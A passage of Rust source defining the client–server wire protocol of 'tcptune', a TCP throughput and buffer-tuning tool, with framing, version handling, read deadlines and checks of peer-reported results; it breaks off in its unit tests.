//! The `tcptune verify` ↔ `tcptune serve` wire protocol (TCP, one test per connection).
//!
//! ```text
//! client → server  hello   16 bytes: "tcptune\0" | version u16 BE | flags u16 BE (0) | duration ms u32 BE
//! server → client  answer  16 bytes: "tcptune\0" | version u16 BE | status u16 BE    | granted ms u32 BE
//! client → server  data    any bytes, for the granted duration; then the client shuts down its write side
//! server → client  result  one line of JSON (a [`ServerResult`]), at most MAX_RESULT bytes
//! ```
//!
//! Version 2 adds the path test of `advise --host` (hello flag [`FLAG_PATH_TEST`]): the data
//! goes over a second connection whose listener the server opens for this test only, so that
//! the receive buffer the client asks for is set *before* the handshake — the window scale is
//! chosen then, and a buffer forced later could not be advertised in full:
//! ```text
//! client → server  hello   as above, version 2, flags 1; then 8 bytes: receive buffer wanted (u64 BE, 0: autotuning)
//! server → client  answer  as above; then one line of JSON (a [`DataChannel`]): the port to send to
//! client → server  data    on a new connection to that port (same client address), as above
//! server → client  result  on that connection: the [`ServerResult`] with the window share filled in
//! ```
//!
//! Version 3 adds the reverse path test (hello flags [`FLAG_PATH_TEST`] | [`FLAG_REVERSE`]):
//! the server sends, the client receives, so a test measures what a download meets as well as
//! an upload. The client sets its own receive buffer before it connects the data connection
//! (the same reason as above, on the other end); the server runs the same sender as the
//! client of a forward test ([`super::flow`]: unpaced startup, then paced at 0.8 × its rate,
//! sampled from TCP_INFO) and reports what its sender read:
//! ```text
//! client → server  hello   version 3, flags 3; then 32 bytes ([`ReverseAsk`]):
//!                          send buffer wanted (u64 BE, 0: autotuning) | most bytes to send (u64 BE)
//!                          | congestion control (16 bytes ASCII, NUL-padded; all NUL: the server's default)
//! server → client  answer  as above; then one line of JSON (a [`DataChannel`]): the port to connect to, the
//!                          send buffer it forced (`sndbuf`, `forced`)
//! client → server  connect to that port (same client address), its receive buffer set before the SYN
//! server → client  data    on that connection, for the granted duration or the bytes asked; then FIN
//! server → client  result  on the first (control) connection: one line of JSON (a [`SenderResult`]): the
//!                          bytes and time it sent, its OS and send-buffer sysctl, its congestion control, and
//!                          its sender's readings (a [`super::flow::Reading`])
//! ```
//! A version-3 forward path test is the version-2 one, sent in version 3.
//!
//! # Versions
//! A client asks in the newest version it speaks; a server answers a version it does not
//! speak with [`Status::BadVersion`] in its own newest version, and closes. So a version-3
//! client asks a version-2 server again in version 2 for the forward test and skips the
//! reverse one (saying why); a version-3 server serves versions 1 to 3 (`verify` speaks 1, the
//! version-2 path test 2). A flag a version does not know is ignored by its server, as a
//! version-2 server ignores [`FLAG_REVERSE`].
//!
//! Direction of the plain test is fixed: verify sends, serve receives, so the sender's TCP_INFO
//! — where the limited-by counters are — is on the side that prints the verdict. Anything that
//! does not start with the magic is not a tcptune client: the server closes that connection and
//! keeps serving.
//!
//! # Ending on time
//! The sender stops writing at the granted time (a version-3 sender bounds its unsent data,
//! [`super::flow`]); the receiver counts until the end of the data or [`ARRIVAL_GRACE`] after
//! the granted time, whichever comes first, and reports what came by then. serve keeps taking
//! an older sender's backlog for [`DRAIN_GRACE`] after the granted time so its connection ends
//! cleanly; a client waits at most that long for its result while its data is still being
//! taken ([`result_deadline`]).
//!
//! # Trust
//! Neither end trusts the other. Every wait has a deadline this end computes from its own test
//! time and the fixed slacks below, for the whole phase rather than for one read, so a peer
//! that sends a byte now and then cannot stretch it ([`read_exact_by`], [`read_json_line`]);
//! the time a server grants can only shorten the test the client asked for. The text in a
//! result is [`Foreign`] (shown only escaped), and its numbers are checked against what the
//! client itself sent or received ([`ServerResult::check`], [`SenderResult::check`]) before
//! anything reads them as a measurement. A forced buffer is bounded by what was asked and by
//! [`DEFAULT_MAX_BUFFER`] (serve's `--max-buffer`), on either end.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};

use crate::text::{self, Foreign};

pub const MAGIC: [u8; 8] = *b"tcptune\0";
/// The newest version this build speaks.
pub const VERSION: u16 = 3;
/// The plain throughput test of `verify`, spoken by every server.
pub const PLAIN_VERSION: u16 = 1;
/// The first version with the (forward) path test.
pub const PATH_TEST_VERSION: u16 = 2;
/// The first version with the reverse path test.
pub const REVERSE_VERSION: u16 = 3;
/// Hello flag: a path test (version 2).
pub const FLAG_PATH_TEST: u16 = 1;
/// Hello flag, with [`FLAG_PATH_TEST`]: the server sends (version 3).
pub const FLAG_REVERSE: u16 = 2;
/// Bytes after a path-test hello: the receive buffer wanted.
pub const PATH_TEST_EXTRA: usize = 8;
/// Bytes after a reverse path-test hello: a [`ReverseAsk`].
pub const REVERSE_EXTRA: usize = 32;
/// Longest [`DataChannel`] line a client reads.
pub const MAX_CHANNEL_LINE: usize = 1024;
pub const HELLO_LEN: usize = 16;
/// Longest test a server grants.
pub const MAX_DURATION_MS: u32 = 60_000;
/// Longest result line a client reads.
pub const MAX_RESULT: usize = 16 * 1024;
/// Default port of `serve` and `verify`.
pub const DEFAULT_PORT: u16 = 5301;

/// How long a client gives the far end, once connected, to answer its hello and (path test)
/// to name its data port and take the data connection. serve answers from memory at once;
/// 5 s is serve's own deadline for a hello, and eight round trips of a geostationary
/// satellite hop (600 ms), so only a peer that stalls reaches it.
pub const ANSWER_SLACK: Duration = Duration::from_secs(5);

/// How long after the granted time a receiver keeps counting the data still arriving — what
/// was in flight at the sender's deadline, and the unsent data a version-3 sender bounds to
/// 50 ms of its rate ([`super::flow::UNSENT_TIME`]) — before it reports what came by then.
/// Three round trips of a geostationary satellite hop (600 ms) with a second of queue behind
/// them drain in under 3 s; 5 s leaves room for a loaded receiver.
pub const ARRIVAL_GRACE: Duration = Duration::from_secs(5);

/// The longest a test's connection lasts after its granted time: serve keeps taking the data
/// of an older sender whose backlog was not bounded (version 1 and 2 clients force or
/// autotune their send buffer, and stop writing only at the granted time) for this long after
/// it reported, so the connection ends with a FIN; and a client whose data is still being
/// taken waits this long for its result ([`result_deadline`]). 30 s drains a 2 × BDP send
/// buffer sized for a path 25 times faster than the one it runs on at a 600 ms RTT.
pub const DRAIN_GRACE: Duration = Duration::from_secs(30);

/// How long a test's sender may go silent before the receiver gives up on it.
pub const IDLE_TIMEOUT: Duration = Duration::from_secs(10);

/// How long the receiver may take to send its result line once it has all the data (the
/// client sees that in TCP_INFO: nothing unacknowledged). serve writes it as soon as it reads
/// the end of the data; 5 s covers a loaded receiver and a few round trips of the longest path.
pub const RESULT_SLACK: Duration = Duration::from_secs(5);

/// The largest buffer a path test forces by default, on either end, as the kernel reports it
/// (Linux keeps twice what is asked, for its bookkeeping): 1 GiB. Enough for what `advise`
/// asks on a 1 Gbit/s path at 600 ms (6 × its 75 MB BDP = 450 MB, kept as 900 MB), and the
/// most an anonymous client can make a root `serve` pin (`serve --max-buffer` changes it).
pub const DEFAULT_MAX_BUFFER: u64 = 1 << 30;

/// What to ask the kernel for so that the buffer it reports stays within `max`: Linux
/// doubles the size asked, so at most half of `max`, and never more than `wanted`.
pub fn forced_buffer_ask(wanted: u64, max: u64) -> u64 {
    wanted.min(max / 2)
}

/// Answer status.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u16)]
pub enum Status {
    Ok = 0,
    /// Another test is running: one at a time, so tests do not disturb each other.
    Busy = 1,
    /// The client speaks a protocol version this server does not.
    BadVersion = 2,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hello {
    pub version: u16,
    /// [`FLAG_PATH_TEST`] or 0.
    pub flags: u16,
    pub duration_ms: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Answer {
    pub version: u16,
    pub status: Status,
    pub granted_ms: u32,
}

/// Why 16 bytes are not a valid hello or answer.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ProtoError {
    #[error("not a tcptune peer (bad magic {0:02x?})")]
    BadMagic([u8; 8]),
    #[error("unknown status {0}")]
    BadStatus(u16),
    #[error("a test of 0 ms")]
    ZeroDuration,
}

fn frame(a: u16, b: u16, c: u32) -> [u8; HELLO_LEN] {
    let mut f = [0u8; HELLO_LEN];
    f[..8].copy_from_slice(&MAGIC);
    f[8..10].copy_from_slice(&a.to_be_bytes());
    f[10..12].copy_from_slice(&b.to_be_bytes());
    f[12..16].copy_from_slice(&c.to_be_bytes());
    f
}

fn unframe(f: &[u8; HELLO_LEN]) -> Result<(u16, u16, u32), ProtoError> {
    let mut magic = [0u8; 8];
    magic.copy_from_slice(&f[..8]);
    if magic != MAGIC {
        return Err(ProtoError::BadMagic(magic));
    }
    Ok((
        u16::from_be_bytes([f[8], f[9]]),
        u16::from_be_bytes([f[10], f[11]]),
        u32::from_be_bytes([f[12], f[13], f[14], f[15]]),
    ))
}

impl Hello {
    pub fn encode(&self) -> [u8; HELLO_LEN] {
        frame(self.version, self.flags, self.duration_ms)
    }

    pub fn decode(f: &[u8; HELLO_LEN]) -> Result<Self, ProtoError> {
        let (version, flags, duration_ms) = unframe(f)?;
        if duration_ms == 0 {
            return Err(ProtoError::ZeroDuration);
        }
        Ok(Self {
            version,
            flags,
            duration_ms,
        })
    }

    /// A version-2 hello asking for a path test.
    pub fn path_test(&self) -> bool {
        self.version >= PATH_TEST_VERSION && self.flags & FLAG_PATH_TEST != 0
    }

    /// A version-3 path-test hello asking the server to send.
    pub fn reverse(&self) -> bool {
        self.path_test() && self.version >= REVERSE_VERSION && self.flags & FLAG_REVERSE != 0
    }

    /// The bytes a server reads after this hello before it answers.
    pub fn extra_len(&self) -> usize {
        if self.reverse() {
            REVERSE_EXTRA
        } else if self.path_test() {
            PATH_TEST_EXTRA
        } else {
            0
        }
    }
}

/// What a reverse path test asks of the sending server, after its hello.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReverseAsk {
    /// The send buffer to force, bytes (0: autotuning); the server bounds it by its
    /// `--max-buffer`.
    pub sndbuf: u64,
    /// The most payload bytes to send.
    pub max_bytes: u64,
    /// The congestion control to send with, where the server's kernel allows it; None: the
    /// server's default. A name a kernel could not have (not 1–15 ASCII letters, digits, `_`
    /// or `-`) reads as None.
    pub cc: Option<String>,
    /// Send for the whole time granted (`--thorough`), not only until the sender's reading is
    /// made ([`crate::tcp::flow::reading_made`]). Its own byte, the last: a name ends with its
    /// NUL before it. (A server older than it reads a set byte as a name it cannot have, and
    /// sends with its default congestion control, to its time, as it always did.)
    pub full: bool,
}

impl ReverseAsk {
    pub fn encode(&self) -> [u8; REVERSE_EXTRA] {
        let mut f = [0u8; REVERSE_EXTRA];
        f[..8].copy_from_slice(&self.sndbuf.to_be_bytes());
        f[8..16].copy_from_slice(&self.max_bytes.to_be_bytes());
        if let Some(cc) = self.cc.as_deref().filter(|c| cc_name(c)) {
            f[16..16 + cc.len()].copy_from_slice(cc.as_bytes());
        }
        f[REVERSE_EXTRA - 1] = u8::from(self.full);
        f
    }

    pub fn decode(f: &[u8; REVERSE_EXTRA]) -> Self {
        let mut sndbuf = [0u8; 8];
        sndbuf.copy_from_slice(&f[..8]);
        let mut max_bytes = [0u8; 8];
        max_bytes.copy_from_slice(&f[8..16]);
        let name = &f[16..REVERSE_EXTRA - 1];
        let end = name.iter().position(|&b| b == 0).unwrap_or(name.len());
        let cc = std::str::from_utf8(&name[..end])
            .ok()
            .filter(|c| cc_name(c) && name[end..].iter().all(|&b| b == 0))
            .map(str::to_string);
        Self {
            sndbuf: u64::from_be_bytes(sndbuf),
            max_bytes: u64::from_be_bytes(max_bytes),
            cc,
            full: f[REVERSE_EXTRA - 1] & 1 == 1,
        }
    }
}

/// A congestion control name as a kernel has them: 1 to 15 ASCII letters, digits, `_` or `-`
/// (TCP_CA_NAME_MAX is 16 with its NUL).
pub fn cc_name(s: &str) -> bool {
    (1..16).contains(&s.len()) && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
}

impl Answer {
    pub fn encode(&self) -> [u8; HELLO_LEN] {
        frame(self.version, self.status as u16, self.granted_ms)
    }

    pub fn decode(f: &[u8; HELLO_LEN]) -> Result<Self, ProtoError> {
        let (version, status, granted_ms) = unframe(f)?;
        let status = match status {
            0 => Status::Ok,
            1 => Status::Busy,
            2 => Status::BadVersion,
            s => return Err(ProtoError::BadStatus(s)),
        };
        Ok(Self {
            version,
            status,
            granted_ms,
        })
    }
}

/// Where a path test's data goes (version 2), sent by the server after its answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DataChannel {
    /// The port of the listener opened for this test, on the address the client reached.
    pub port: u16,
    /// Forward test: the receive buffer the data connection has (SO_RCVBUF as the kernel
    /// reports it), bytes; 0 when the client asked for autotuning, and in a reverse test.
    pub rcvbuf: u64,
    /// Whether the server could force its end's buffer past the sysctl maxima (it runs as
    /// root): the receive buffer of a forward test, the send buffer of a reverse one.
    pub forced: bool,
    /// Reverse test (version 3): the send buffer the data connection has, bytes; 0 when not
    /// forced.
    #[serde(default)]
    pub sndbuf: u64,
}

impl DataChannel {
    /// The numbers a client relies on, in range: a port to connect to, a buffer a kernel
    /// can report.
    pub fn check(&self) -> Result<(), PeerError> {
        if self.port == 0 {
            return Err(PeerError::new("a data port of 0"));
        }
        for (what, b) in [("receive", self.rcvbuf), ("send", self.sndbuf)] {
            if b > crate::tcp::MAX_SOCKET_BUFFER {
                return Err(PeerError::new(format!(
                    "a {what} buffer of {b} bytes (a socket buffer is at most {} bytes)",
                    crate::tcp::MAX_SOCKET_BUFFER
                )));
            }
        }
        Ok(())
    }
}

/// What the receiving side tells the sender after the data. Its text is the peer's
/// ([`Foreign`]: shown only escaped); its numbers are checked by [`ServerResult::check`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ServerResult {
    /// Payload bytes received (version 3: by the end of the data, or by [`ARRIVAL_GRACE`]
    /// after the granted time).
    pub bytes: u64,
    /// From the first payload byte to the end of the data (or that cutoff), in µs.
    pub duration_us: u64,
    /// The receiver's OS ("linux", "freebsd", "macos"): see [`ServerResult::os_name`].
    pub os: Foreign,
    /// The sysctl that caps the receiver's buffer autotuning, and its running value: see
    /// [`ServerResult::buffer_key`] and [`ServerResult::buffer_value`].
    pub rcvbuf_key: Option<Foreign>,
    pub rcvbuf_value: Option<Foreign>,
    /// The largest receive window the receiver advertised (Linux 6.2+: tcpi_rcv_wnd), bytes.
    pub rcv_wnd: Option<u64>,
    /// Path test: the receive buffer (SO_RCVBUF) when the window was its largest share of it,
    /// bytes, and that share (advertised window / buffer: the receiver's scaling_ratio).
    #[serde(default)]
    pub rcv_buf: Option<u64>,
    #[serde(default)]
    pub window_share: Option<f64>,
}

/// An answer from the far end that no tcptune serve sends: a number out of range, a result
/// that contradicts what this end sent. Its message reads "the peer sent …", one line.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("the peer sent {0}")]
pub struct PeerError(String);

impl PeerError {
    fn new(what: impl Into<String>) -> Self {
        Self(what.into())
    }
}

/// What the client knows of its own side of a test, to check the receiver's result against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SentFacts {
    /// Payload bytes this end handed to its kernel.
    pub bytes: u64,
    /// From just before the first payload byte to the result: the receiver's time from its
    /// first byte to the end of the data lies within it.
    pub span: Duration,
}

/// More than the clocks of two hosts drift apart over the longest test (NTP slews a clock by
/// at most 500 ppm: 45 ms over 90 s), with room for a late timer.
const CLOCK_MARGIN: Duration = Duration::from_secs(1);

/// The OS names a receiver may give.
const OS_NAMES: [&str; 3] = ["linux", "freebsd", "macos"];

impl ServerResult {
    /// The numbers against what this end sent and any TCP flow can show: at least one byte
    /// and at most what was sent, received within the time the test lasted here, at a rate
    /// below [`crate::tcp::MAX_RATE_BPS`]; a window TCP can advertise, a buffer a kernel can
    /// report, a window share within (0, 1]. A test that moved nothing measures nothing, so a
    /// result of 0 bytes is refused too.
    pub fn check(&self, sent: &SentFacts) -> Result<(), PeerError> {
        if self.bytes > sent.bytes {
            return Err(PeerError::new(format!(
                "a result of {} received, more than the {} this end sent",
                text::bytes(self.bytes),
                text::bytes(sent.bytes)
            )));
        }
        if self.bytes == 0 {
            return Err(PeerError::new(
                "a result of 0 bytes received: a test that moved nothing measures nothing",
            ));
        }
        let span_us = u64::try_from((sent.span + CLOCK_MARGIN).as_micros()).unwrap_or(u64::MAX);
        if self.duration_us == 0 || self.duration_us > span_us {
            return Err(PeerError::new(format!(
                "a receiving time of {} µs for {}, where this end's test lasted {} µs",
                self.duration_us,
                text::bytes(self.bytes),
                sent.span.as_micros()
            )));
        }
        #[allow(clippy::cast_precision_loss)]
        let bps = self.bytes as f64 * 8.0 / (self.duration_us as f64 / 1e6);
        if bps > crate::tcp::MAX_RATE_BPS {
            return Err(PeerError::new(format!(
                "{} received in {} µs: {}, faster than any TCP flow",
                text::bytes(self.bytes),
                self.duration_us,
                text::rate(bps)
            )));
        }
        if let Some(w) = self.rcv_wnd.filter(|w| *w == 0 || *w > crate::tcp::MAX_WINDOW) {
            return Err(PeerError::new(format!(
                "a receive window of {w} bytes (TCP advertises 1 to {} bytes)",
                crate::tcp::MAX_WINDOW
            )));
        }
        if let Some(b) = self.rcv_buf.filter(|b| *b == 0 || *b > crate::tcp::MAX_SOCKET_BUFFER) {
            return Err(PeerError::new(format!(
                "a receive buffer of {b} bytes (a socket buffer is 1 to {} bytes)",
                crate::tcp::MAX_SOCKET_BUFFER
            )));
        }
        if let Some(s) = self.window_share.filter(|s| !(*s > 0.0 && *s <= 1.0)) {
            return Err(PeerError::new(format!(
                "a window share of {s} (the share of its buffer it advertised, within (0, 1])"
            )));
        }
        Ok(())
    }

    /// The receiver's OS when it is one tcptune knows; else what it sent instead.
    pub fn os_name(&self) -> Result<&'static str, &Foreign> {
        known_os(&self.os)
    }

    /// The receiver's buffer key when it has the shape of a sysctl name; else what it sent.
    pub fn buffer_key(&self) -> Result<Option<&str>, &Foreign> {
        key_of(self.rcvbuf_key.as_ref())
    }

    /// The key's running value when it is one to three whole numbers; else what it sent.
    pub fn buffer_value(&self) -> Result<Option<&str>, &Foreign> {
        value_of(self.rcvbuf_value.as_ref())
    }
}

/// What the sending server of a reverse path test (version 3) reports after its data, on the
/// control connection: what it sent and what its sender read. Its text is the peer's
/// ([`Foreign`]); its numbers are checked by [`SenderResult::check`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SenderResult {
    /// Payload bytes it handed to its kernel.
    pub bytes: u64,
    /// How long it sent, µs.
    pub duration_us: u64,
    /// The sender's OS ("linux", "freebsd", "macos").
    pub os: Foreign,
    /// The sysctl that caps its send buffer's autotuning, and its running value.
    pub sndbuf_key: Option<Foreign>,
    pub sndbuf_value: Option<Foreign>,
    /// The congestion control its flow ran with (Linux).
    pub cc: Option<Foreign>,
    /// What its sender read of the flow (Linux TCP_INFO; empty elsewhere).
    pub flow: super::flow::Reading,
}

/// What the client knows of its own side of a reverse test, to check the sender's result
/// against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ReceivedFacts {
    /// Payload bytes this end received.
    pub bytes: u64,
    /// From just before the data connection to the result: the sender's time lies within it.
    pub span: Duration,
}

impl SenderResult {
    /// The numbers against what this end received and any TCP flow can show: at least what
    /// came here (a sender cannot have sent less than was received), sent within the time the
    /// test lasted here at a rate below [`crate::tcp::MAX_RATE_BPS`], and readings a TCP flow
    /// can show ([`super::flow::Reading::check`]).
    pub fn check(&self, got: &ReceivedFacts) -> Result<(), PeerError> {
        if self.bytes < got.bytes {
            return Err(PeerError::new(format!(
                "a result of {} sent, less than the {} this end received",
                text::bytes(self.bytes),
                text::bytes(got.bytes)
            )));
        }
        let span_us = u64::try_from((got.span + CLOCK_MARGIN).as_micros()).unwrap_or(u64::MAX);
        if self.duration_us == 0 || self.duration_us > span_us {
            return Err(PeerError::new(format!(
                "a sending time of {} µs for {}, where this end's test lasted {} µs",
                self.duration_us,
                text::bytes(self.bytes),
                got.span.as_micros()
            )));
        }
        #[allow(clippy::cast_precision_loss)]
        let bps = self.bytes as f64 * 8.0 / (self.duration_us as f64 / 1e6);
        if bps > crate::tcp::MAX_RATE_BPS {
            return Err(PeerError::new(format!(
                "{} sent in {} µs: {}, faster than any TCP flow",
                text::bytes(self.bytes),
                self.duration_us,
                text::rate(bps)
            )));
        }
        self.flow
            .check()
            .map_err(|why| PeerError::new(format!("sender readings no TCP flow shows: {why}")))
    }

    /// The sender's OS when it is one tcptune knows; else what it sent instead.
    pub fn os_name(&self) -> Result<&'static str, &Foreign> {
        known_os(&self.os)
    }

    /// Its send-buffer key when it has the shape of a sysctl name; else what it sent.
    pub fn buffer_key(&self) -> Result<Option<&str>, &Foreign> {
        key_of(self.sndbuf_key.as_ref())
    }

    /// The key's running value when it is one to three whole numbers; else what it sent.
    pub fn buffer_value(&self) -> Result<Option<&str>, &Foreign> {
        value_of(self.sndbuf_value.as_ref())
    }

    /// Its congestion control when it has the shape of one ([`cc_name`]); else what it sent.
    pub fn cc_name(&self) -> Result<Option<&str>, &Foreign> {
        match &self.cc {
            None => Ok(None),
            Some(c) if cc_name(c.raw()) => Ok(Some(c.raw())),
            Some(c) => Err(c),
        }
    }
}

fn known_os(os: &Foreign) -> Result<&'static str, &Foreign> {
    OS_NAMES.into_iter().find(|n| *n == os.raw()).ok_or(os)
}

fn key_of(key: Option<&Foreign>) -> Result<Option<&str>, &Foreign> {
    match key {
        None => Ok(None),
        Some(k) if sysctl_name(k.raw()) => Ok(Some(k.raw())),
        Some(k) => Err(k),
    }
}

fn value_of(value: Option<&Foreign>) -> Result<Option<&str>, &Foreign> {
    match value {
        None => Ok(None),
        Some(v) if sysctl_numbers(v.raw()) => Ok(Some(v.raw())),
        Some(v) => Err(v),
    }
}

/// A sysctl name as tcptune prints it in a command: dotted words of ASCII letters, digits,
/// `_` and `-`, at most 128 characters. Anything else from a peer is not shown as a key.
fn sysctl_name(s: &str) -> bool {
    s.len() <= 128
        && s.contains('.')
        && s.split('.')
            .all(|w| !w.is_empty() && w.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-'))
}

/// A buffer sysctl's value: one to three whole numbers (tcp_rmem has three), spaces or tabs
/// between.
fn sysctl_numbers(s: &str) -> bool {
    let fields: Vec<&str> = s.split([' ', '\t']).filter(|f| !f.is_empty()).collect();
    (1..=3).contains(&fields.len())
        && fields
            .iter()
            .all(|f| f.len() <= 20 && f.bytes().all(|b| b.is_ascii_digit()))
}

/// The hello's test duration for `time`: whole milliseconds, at least 1 (a hello of 0 ms is
/// junk to the server), and the longest a server grants when it does not fit.
pub fn duration_ms(time: Duration) -> u32 {
    u32::try_from(time.as_millis()).unwrap_or(MAX_DURATION_MS).max(1)
}

/// Why the hello exchange gave no test: typed, so that each client words it for its own user
/// (`verify` names the server, the path test says whether the advice goes on without it).
#[derive(Debug)]
pub enum ExchangeError {
    /// The hello could not be sent: the peer closed the connection.
    Send(std::io::Error),
    /// No complete answer came back by the deadline.
    NoAnswer(ReadError),
    /// The answer is not a tcptune answer (or grants a test of 0 ms).
    Garbled(ProtoError),
    /// The server is running another test.
    Busy,
    /// The server does not speak the hello's version; the version it answered in.
    BadVersion(u16),
}

/// The client's half of the hello exchange: sends `hello`, then `extra` (a path test's
/// buffer size) in the same write, and reads the answer by `deadline`. Ok: the time to send
/// for, which is what the server granted but never more than the hello asked for.
pub fn exchange_hello(
    s: &TcpStream,
    hello: &Hello,
    extra: &[u8],
    deadline: Instant,
) -> Result<Duration, ExchangeError> {
    let mut out = hello.encode().to_vec();
    out.extend_from_slice(extra);
    let mut w = s;
    w.write_all(&out).map_err(ExchangeError::Send)?;
    let mut frame = [0u8; HELLO_LEN];
    read_exact_by(s, &mut frame, deadline).map_err(ExchangeError::NoAnswer)?;
    let answer = Answer::decode(&frame).map_err(ExchangeError::Garbled)?;
    match answer.status {
        // The grant can only shorten the test: a peer granting more cannot hold the client.
        Status::Ok => match answer.granted_ms.min(hello.duration_ms) {
            0 => Err(ExchangeError::Garbled(ProtoError::ZeroDuration)),
            ms => Ok(Duration::from_millis(u64::from(ms))),
        },
        Status::Busy => Err(ExchangeError::Busy),
        Status::BadVersion => Err(ExchangeError::BadVersion(answer.version)),
    }
}

/// Why a read by a deadline came back short.
#[derive(Debug)]
pub enum ReadError {
    /// The deadline passed first, however many bytes came before it.
    Late,
    /// The peer closed the connection first.
    Closed,
    Io(std::io::Error),
}

impl std::fmt::Display for ReadError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Late => f.write_str("not complete by its deadline"),
            Self::Closed => f.write_str("the connection was closed"),
            Self::Io(e) => write!(f, "{e}"),
        }
    }
}

/// One read of at most `buf.len()` bytes by `deadline`: the read waits only for the time
/// left, so bytes that trickle in do not move the deadline. Ok(0) never: end of file is
/// [`ReadError::Closed`].
fn read_some_by(s: &TcpStream, buf: &mut [u8], deadline: Instant) -> Result<usize, ReadError> {
    let mut r = s;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Err(ReadError::Late);
        }
        s.set_read_timeout(Some(left)).map_err(ReadError::Io)?;
        match r.read(buf) {
            Ok(0) => return Err(ReadError::Closed),
            Ok(n) => return Ok(n),
            // A timeout that fired a hair early is tried again with what is left.
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut | std::io::ErrorKind::Interrupted
                ) => {}
            Err(e) => return Err(ReadError::Io(e)),
        }
    }
}

/// Fills `buf` by `deadline`, however the bytes trickle in (a hello, an answer, a path
/// test's buffer size).
pub fn read_exact_by(s: &TcpStream, buf: &mut [u8], deadline: Instant) -> Result<(), ReadError> {
    let mut got = 0;
    while got < buf.len() {
        got += read_some_by(s, &mut buf[got..], deadline)?;
    }
    Ok(())
}

/// Why a line of JSON from the peer could not be read.
#[derive(Debug)]
pub enum LineError {
    /// Not a whole line by the deadline, or the connection ended before any of it.
    Read(ReadError),
    /// Not the JSON expected: serde's reason, escaped and cut to one short line (it may
    /// quote the peer's text).
    Json(String),
}

/// Longest reason quoted from a JSON error, in characters.
const MAX_JSON_REASON: usize = 160;

/// Reads one line of JSON of at most `max` bytes (a [`DataChannel`], a [`ServerResult`]) by
/// `deadline`, for the whole line: a peer sending a byte every few seconds cannot stretch
/// it. Bytes after the newline are dropped (nothing follows a line in this protocol); a line
/// cut at `max` bytes or by the end of the connection is parsed as it is.
pub fn read_json_line<T: DeserializeOwned>(s: &TcpStream, max: usize, deadline: Instant) -> Result<T, LineError> {
    let mut line = Vec::with_capacity(512);
    let mut buf = [0u8; 2048];
    while line.len() < max {
        let want = (max - line.len()).min(buf.len());
        match read_some_by(s, &mut buf[..want], deadline) {
            Ok(n) => {
                if let Some(end) = buf[..n].iter().position(|&b| b == b'\n') {
                    line.extend_from_slice(&buf[..end]);
                    break;
                }
                line.extend_from_slice(&buf[..n]);
            }
            Err(ReadError::Closed) if !line.is_empty() => break,
            Err(e) => return Err(LineError::Read(e)),
        }
    }
    serde_json::from_slice(line.trim_ascii()).map_err(|e| {
        let why = text::escape(&e.to_string());
        LineError::Json(if why.chars().count() > MAX_JSON_REASON {
            format!("{}…", why.chars().take(MAX_JSON_REASON).collect::<String>())
        } else {
            why
        })
    })
}

/// The cutoff of a receiver whose test was granted `granted` from `start` ([`super::flow::receive`]
/// counts until it): the granted time plus [`ARRIVAL_GRACE`].
pub fn receive_cutoff(start: Instant, granted: Duration) -> Instant {
    start + granted + ARRIVAL_GRACE
}

/// When the client stops waiting for the result of a test whose data it stopped sending at
/// `stopped` (and has shut down its write side). A version-3 serve reports at most
/// [`ARRIVAL_GRACE`] after the granted time; an older one once it has taken all the data,
/// which it may take until [`DRAIN_GRACE`]. So: the result is due [`RESULT_SLACK`] after its
/// first byte comes, or after everything sent is acknowledged (Linux's TCP_INFO shows that
/// moment), and never later than `stopped` + [`DRAIN_GRACE`] + [`RESULT_SLACK`]: a receiver
/// that has all the data and drips its answer holds the client 5 s, not 35. Without TCP_INFO,
/// the latest unless the answer starts first.
pub fn result_deadline(s: &TcpStream, stopped: Instant) -> Instant {
    let latest = stopped + DRAIN_GRACE + RESULT_SLACK;
    loop {
        let now = Instant::now();
        if readable(s, Duration::ZERO) {
            return (now + RESULT_SLACK).min(latest);
        }
        match crate::tcp::tcpinfo::read(s) {
            // Nothing unacknowledged or unsent, the end of the data (FIN) included.
            Some(i) if i.tcpi_unacked == 0 && i.tcpi_notsent_bytes == 0 => return (now + RESULT_SLACK).min(latest),
            // The receiver did not take the data in time: serve gave up on this test too.
            Some(_) if now >= stopped + DRAIN_GRACE => return now,
            // Waits for the answer to start, 10 ms at a time between the readings.
            _ if now >= latest => return latest,
            _ => {
                readable(s, Duration::from_millis(10));
            }
        }
    }
}

/// Whether `s` has something to read (or its end) within `wait`.
fn readable(s: &TcpStream, wait: Duration) -> bool {
    use std::os::fd::AsRawFd as _;
    let mut p = libc::pollfd {
        fd: s.as_raw_fd(),
        events: libc::POLLIN,
        revents: 0,
    };
    let ms = libc::c_int::try_from(wait.as_millis()).unwrap_or(libc::c_int::MAX);
    // SAFETY: one valid pollfd, and its count.
    let rc = unsafe { libc::poll(&raw mut p, 1, ms) };
    rc > 0 && p.revents != 0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_and_junk() {
        let h = Hello {
            version: VERSION,
            flags: FLAG_PATH_TEST,
            duration_ms: 3000,
        };
        assert!(h.path_test());
        assert!(!Hello { version: 1, ..h }.path_test(), "a version-1 hello has no flags");
        assert_eq!(Hello::decode(&h.encode()), Ok(h));
        let a = Answer {
            version: VERSION,
            status: Status::Busy,
            granted_ms: 0,
        };
        assert_eq!(Answer::decode(&a.encode()), Ok(a));

        let mut junk = [0u8; HELLO_LEN];
